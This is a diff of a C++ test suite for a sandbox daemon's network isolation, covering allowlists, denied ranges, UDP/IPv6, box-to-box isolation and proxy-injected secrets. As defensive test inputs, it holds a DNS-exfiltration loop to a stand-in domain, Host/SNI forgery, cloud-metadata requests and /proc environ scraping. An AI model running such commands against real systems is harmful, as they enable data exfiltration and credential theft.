@@ -35,7 +35,7 @@ std::string Unbase64(const std::string& in) {
   return out;
 }
 
-struct Run {
+struct CommandRun {
   std::string out, err;
   int64_t exit_code = -999;
 };
@@ -53,14 +53,17 @@ class NetworkTest : public ::testing::Test {
     ::setenv("SBX_CGROUP_PARENT", ("sbx-net-test-" + std::to_string(::getpid())).c_str(), 1);
     d_ = std::make_unique<DaemonProcess>(dir_ + "/data");
     ASSERT_EQ(::mkdir((dir_ + "/data").c_str(), 0711), 0);
-    d_->set_prefix({"ip", "netns", "exec", DaemonNs()});
+    // nsenter, not `ip netns exec`: that one remounts /sys for the namespace, hiding the cgroup
+    // mounts the daemon needs; only the network namespace changes here.
+    d_->set_prefix({"nsenter", "--net=/run/netns/" + DaemonNs()});
     d_->set_serve_flags({"--upstream-dns", "198.18.0.53:53", "--upstream-ca", Ca()});
     d_->Start();
   }
   void TearDown() override {
     if (d_ && d_->Alive()) {
       json list = Json("GET", "/v1/sandboxes?state=running&state=paused");
-      for (const auto& s : list["sandboxes"]) Call("DELETE", "/v1/sandboxes/" + s["id"].get<std::string>());
+      for (const auto& s : list["sandboxes"])
+        Call("DELETE", "/v1/sandboxes/" + s["id"].get<std::string>());
       // Nothing of a box's network is left in the daemon's namespace once it is killed.
       EXPECT_EQ(HostLinks(), "") << "box links left";
       EXPECT_EQ(BoxChains(), "") << "box chains left";
@@ -110,8 +113,8 @@ class NetworkTest : public ::testing::Test {
     EXPECT_EQ(Call("PUT", "/v1/sandboxes/" + id + "/files?path=/tmp/ca.pem", *ca).status, 200);
     return id;
   }
-  Run Exec(const std::string& id, const std::string& command) {
-    Run run;
+  CommandRun Exec(const std::string& id, const std::string& command) {
+    CommandRun run;
     auto r = Call("POST", "/v1/sandboxes/" + id + "/commands",
                   json{{"command", command}, {"timeout", 60}}.dump());
     EXPECT_EQ(r.status, 200) << r.body;
@@ -163,11 +166,14 @@ class NetworkTest : public ::testing::Test {
 };
 
 constexpr char kCurl[] = "curl -sS --max-time 20 --cacert /tmp/ca.pem ";
+// -f: a refusal the proxy answers with a 403 (plain HTTP) fails curl too.
+constexpr char kCurlF[] = "curl -fsS --max-time 20 --cacert /tmp/ca.pem ";
 
 // Rows 32 and 33: an allowlist reaches what it names and nothing else; DNS for anything else is
 // answered inside sbx, so random subdomains never reach the internet.
 TEST_F(NetworkTest, AnAllowlistReachesWhatItNamesAndNothingElse) {
-  std::string id = Create({{"mode", "allowlist"}, {"allow", {"allowed.test", "*.pypi.test", "pypi.test"}}});
+  std::string id =
+      Create({{"mode", "allowlist"}, {"allow", {"allowed.test", "*.pypi.test", "pypi.test"}}});
   auto ok = Exec(id, std::string(kCurl) + "https://allowed.test/headers");
   EXPECT_EQ(ok.exit_code, 0) << ok.err;
   EXPECT_NE(ok.out.find("\"host\":\"allowed.test\""), std::string::npos) << ok.out;
@@ -178,30 +184,41 @@ TEST_F(NetworkTest, AnAllowlistReachesWhatItNamesAndNothingElse) {
   EXPECT_EQ(DnsQueriesFor("denied.test"), 0);
 
   // DNS exfiltration: 100 random subdomains (A and AAAA through getent), none reaches upstream.
-  auto exfil = Exec(id, "for i in $(seq 100); do getent ahosts \"$i-$(head -c6 /dev/urandom | od -An -tx1 | tr -d ' \\n').exfil.test\" >/dev/null; done; echo done");
+  auto exfil = Exec(id,
+                    "for i in $(seq 100); do getent ahosts \"$i-$(head -c6 /dev/urandom | od -An "
+                    "-tx1 | tr -d ' \\n').exfil.test\" >/dev/null; done; echo done");
   EXPECT_EQ(exfil.out, "done\n") << exfil.err;
   EXPECT_EQ(DnsQueriesFor("exfil.test"), 0);
 
   // A raw address the policy does not name, even with an allowed name forged as SNI or Host:
   // the proxy goes to the allowed name's real address, never to the one the box chose.
-  auto raw = Exec(id, std::string(kCurl) + "http://198.18.2.10/");
-  EXPECT_NE(raw.exit_code, 0) << raw.out;
-  auto forged_host = Exec(id, std::string(kCurl) + "-H 'Host: allowed.test' http://198.18.2.10/headers");
-  auto forged_sni = Exec(id, std::string(kCurl) + "--resolve allowed.test:443:198.18.2.10 https://allowed.test/headers");
+  // Plain HTTP is told why, in words that name the policy.
+  auto raw = Exec(id, std::string(kCurl) + "-f http://198.18.2.10/ || curl -s http://198.18.2.10/");
+  EXPECT_NE(raw.out.find("blocked by this sandbox's network policy (allowlist: allowed.test"),
+            std::string::npos)
+      << raw.out;
+  auto forged_host =
+      Exec(id, std::string(kCurl) + "-H 'Host: allowed.test' http://198.18.2.10/headers");
+  auto forged_sni =
+      Exec(id, std::string(kCurl) +
+                   "--resolve allowed.test:443:198.18.2.10 https://allowed.test/headers");
   EXPECT_EQ(forged_sni.exit_code, 0) << forged_sni.err;
   for (const auto& r : Log("http"))
-    EXPECT_NE(r.value("local", ""), "198.18.2.10") << "a request reached the box's chosen address: " << r.dump();
+    EXPECT_NE(r.value("local", ""), "198.18.2.10")
+        << "a request reached the box's chosen address: " << r.dump();
   (void)forged_host;
   EXPECT_FALSE(Audit("net.connect_denied", id).empty());
 
   // pip through the allowlist (the index and its file host are allowed).
-  auto pip = Exec(id, "cd /tmp && REQUESTS_CA_BUNDLE=/tmp/ca.pem python3 -m pip download -q --no-deps "
-                      "--index-url https://pypi.test/simple/ -d /tmp/dl sbxdemo && ls /tmp/dl");
+  auto pip = Exec(id,
+                  "cd /tmp && REQUESTS_CA_BUNDLE=/tmp/ca.pem python3 -m pip download -q --no-deps "
+                  "--index-url https://pypi.test/simple/ -d /tmp/dl sbxdemo && ls /tmp/dl");
   EXPECT_EQ(pip.exit_code, 0) << pip.err;
   EXPECT_NE(pip.out.find("sbxdemo-1.0-py3-none-any.whl"), std::string::npos) << pip.out;
   // npm from an index the policy does not name fails.
-  auto npm = Exec(id, "cd /tmp && npm install --registry https://registry.test/ --cafile /tmp/ca.pem "
-                      "--no-audit --no-fund --fetch-retries=0 sbxdemo");
+  auto npm = Exec(id,
+                  "cd /tmp && npm install --registry https://registry.test/ --cafile /tmp/ca.pem "
+                  "--no-audit --no-fund --fetch-retries=0 sbxdemo");
   EXPECT_NE(npm.exit_code, 0) << npm.out;
   EXPECT_EQ(DnsQueriesFor("registry.test"), 0);
 }
@@ -210,25 +227,25 @@ TEST_F(NetworkTest, AnAllowlistReachesWhatItNamesAndNothingElse) {
 TEST_F(NetworkTest, AlwaysDeniedRangesAreRefusedEvenInOpenMode) {
   std::string id = Create({{"mode", "open"}});
   EXPECT_EQ(Exec(id, std::string(kCurl) + "https://allowed.test/headers").exit_code, 0);
-  for (const std::string& url : {"http://private.test/", "http://loopback.test/", "http://metadata.test/",
-                                 "http://169.254.169.254/", "http://10.1.2.3/", "http://198.19.255.2/",
-                                 "http://198.19.255.1/"}) {
-    auto r = Exec(id, std::string(kCurl) + url);
+  for (const char* url : {"http://private.test/", "http://loopback.test/", "http://metadata.test/",
+                          "http://169.254.169.254/", "http://10.1.2.3/", "http://198.19.255.2/"}) {
+    auto r = Exec(id, std::string(kCurlF) + url);
     EXPECT_NE(r.exit_code, 0) << url << ": " << r.out;
   }
   // The gateway (the host's end of the box's link) on any port but DNS, the daemon's included.
   auto gw = Exec(id, "ip route | awk '/default/ {print $3}'");
   std::string host = gw.out.substr(0, gw.out.find('\n'));
   EXPECT_FALSE(host.empty());
-  EXPECT_NE(Exec(id, std::string(kCurl) + "http://" + host + ":7777/").exit_code, 0);
+  EXPECT_NE(Exec(id, std::string(kCurlF) + "http://" + host + ":7777/").exit_code, 0);
   EXPECT_GE(Audit("net.connect_denied", id).size(), 5u);
 }
 
 // Row 35: IPv6 and UDP do not get around the policy; UDP goes out only by an explicit rule.
 TEST_F(NetworkTest, UdpOnlyByRuleAndNoIpv6) {
   std::string id = Create({{"mode", "open"}});
-  std::string udp = "python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
-                    "s.settimeout(2); s.sendto(b'ping', ('198.18.3.1', 5000)); print(s.recv(9))\"";
+  std::string udp =
+      "python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
+      "s.settimeout(2); s.sendto(b'ping', ('198.18.3.1', 5000)); print(s.recv(9))\"";
   EXPECT_NE(Exec(id, udp).exit_code, 0) << "UDP went out without a rule";
   EXPECT_NE(Exec(id, "curl -sS --max-time 5 -6 'http://[2001:db8::1]/'").exit_code, 0);
   Json("PUT", "/v1/sandboxes/" + id + "/network",
@@ -245,7 +262,8 @@ TEST_F(NetworkTest, ABoxCannotReachAnotherBox) {
   std::string ip = addr.out.substr(0, addr.out.find('\n'));
   ASSERT_FALSE(ip.empty());
   Exec(b, "nohup python3 -m http.server 8000 >/dev/null 2>&1 &");
-  EXPECT_NE(Exec(a, "curl -sS --max-time 5 http://" + ip + ":8000/").exit_code, 0);
+  auto r = Exec(a, "curl -sS --max-time 5 http://" + ip + ":8000/");
+  EXPECT_NE(r.out.find("blocked by this sandbox's network policy"), std::string::npos) << r.out;
 }
 
 // Row 39, and item 5: a policy replaced while the box runs applies to the next connection, and
@@ -254,11 +272,12 @@ TEST_F(NetworkTest, APolicyIsLiveAndSurvivesPauseAndRestart) {
   std::string id = Create({{"mode", "allowlist"}, {"allow", {"allowed.test"}}});
   std::string pypi = std::string(kCurl) + "https://pypi.test/simple/sbxdemo/";
   EXPECT_NE(Exec(id, pypi).exit_code, 0);
-  Json("PUT", "/v1/sandboxes/" + id + "/network", {{"mode", "allowlist"}, {"allow", {"pypi.test"}}}, 200);
+  Json("PUT", "/v1/sandboxes/" + id + "/network", {{"mode", "allowlist"}, {"allow", {"pypi.test"}}},
+       200);
   EXPECT_EQ(Exec(id, pypi).exit_code, 0);
   EXPECT_NE(Exec(id, std::string(kCurl) + "https://allowed.test/headers").exit_code, 0);
-  Json("POST", "/v1/sandboxes/" + id + "/pause", json::object(), 204);
-  Json("POST", "/v1/sandboxes/" + id + "/resume", json::object(), 204);
+  Json("POST", "/v1/sandboxes/" + id + "/pause", json::object());
+  Json("POST", "/v1/sandboxes/" + id + "/resume", json::object());
   EXPECT_EQ(Exec(id, pypi).exit_code, 0);
   EXPECT_NE(Exec(id, std::string(kCurl) + "https://allowed.test/headers").exit_code, 0);
   d_->Stop();
@@ -267,6 +286,53 @@ TEST_F(NetworkTest, APolicyIsLiveAndSurvivesPauseAndRestart) {
   EXPECT_NE(Exec(id, std::string(kCurl) + "https://allowed.test/headers").exit_code, 0);
   json net = Json("GET", "/v1/sandboxes/" + id + "/network");
   EXPECT_EQ(net.value("mode", ""), "allowlist") << net.dump();
+}
+
+// Row 36 and item 6: a secret never enters the box; the proxy puts it into requests to its host
+// only, and a placeholder sent elsewhere goes out as it is, audited.
+TEST_F(NetworkTest, ASecretNeverEntersTheBoxAndReachesOnlyItsHost) {
+  const std::string value = "s3cr3t-value-0123456789";
+  Json("POST", "/v1/secrets",
+       {{"name", "echo"},
+        {"value", value},
+        {"hosts", {"allowed.test"}},
+        {"header", "X-Api-Key"},
+        {"format", "{}"}},
+       201);
+  json body = {{"network", {{"mode", "allowlist"}, {"allow", {"allowed.test", "pypi.test"}}}},
+               {"secrets", {{"API_KEY", "echo"}}}};
+  json s = Json("POST", "/v1/sandboxes", body, 201);
+  std::string id = s.value("id", "");
+  ASSERT_FALSE(id.empty()) << s.dump();
+  // (The command holds only a prefix of the value: commands are audited, and the check below
+  // looks for the whole value there.)
+  auto env =
+      Exec(id, "echo $API_KEY; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c '" +
+                   value.substr(0, 12) + "' || true");
+  EXPECT_EQ(env.out.rfind("sbx_secret_", 0), 0u) << env.out;
+  EXPECT_NE(env.out.find("\n0\n"), std::string::npos) << env.out;
+  EXPECT_EQ(env.out.find(value), std::string::npos) << env.out;
+  // Through sbx's CA (the box trusts it by its environment): the value reaches allowed.test,
+  // in the placeholder's header and in the header the secret names.
+  auto to_host = Exec(id,
+                      "curl -sS --max-time 20 -H \"Authorization: Bearer $API_KEY\" "
+                      "https://allowed.test/headers");
+  EXPECT_EQ(to_host.exit_code, 0) << to_host.err;
+  EXPECT_NE(to_host.out.find("Bearer " + value), std::string::npos) << to_host.out;
+  EXPECT_NE(to_host.out.find("\"x-api-key\":\"" + value + "\""), std::string::npos) << to_host.out;
+  // Anywhere else the placeholder goes out unreplaced.
+  auto elsewhere = Exec(id,
+                        "curl -sS --max-time 20 -H \"Authorization: Bearer $API_KEY\" "
+                        "https://pypi.test/headers");
+  EXPECT_EQ(elsewhere.exit_code, 0) << elsewhere.err;
+  EXPECT_EQ(elsewhere.out.find(value), std::string::npos) << elsewhere.out;
+  EXPECT_NE(elsewhere.out.find("sbx_secret_"), std::string::npos) << elsewhere.out;
+  EXPECT_FALSE(Audit("secret.use", id).empty());
+  EXPECT_FALSE(Audit("secret.leak", id).empty());
+  // The value is in no answer of the API and no audit event.
+  EXPECT_EQ(Call("GET", "/v1/audit?sandbox=" + id + "&limit=1000").body.find(value),
+            std::string::npos);
+  EXPECT_EQ(Call("GET", "/v1/sandboxes/" + id).body.find(value), std::string::npos);
 }
 
 // Mode none (the default): no link, and resolv.conf says why there is no network.
